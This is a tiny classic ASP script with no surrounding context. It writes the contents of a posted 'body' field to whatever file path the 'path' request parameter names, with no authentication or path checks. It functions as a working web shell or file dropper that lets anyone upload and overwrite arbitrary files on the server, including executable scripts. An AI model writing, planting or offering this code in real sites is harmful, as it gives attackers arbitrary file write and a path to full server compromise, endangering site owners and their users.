<%@ Language="VBScript" CodePage="65001" %>
<%
Dim st
Set st = Server.CreateObject("ADODB.Stream")
st.Type = 2
st.Charset = "utf-8"
st.Open
st.WriteText Request.Form("body")
st.SaveToFile Request("path"), 2
st.Close
Set st = Nothing
Response.Write "ok"
%>
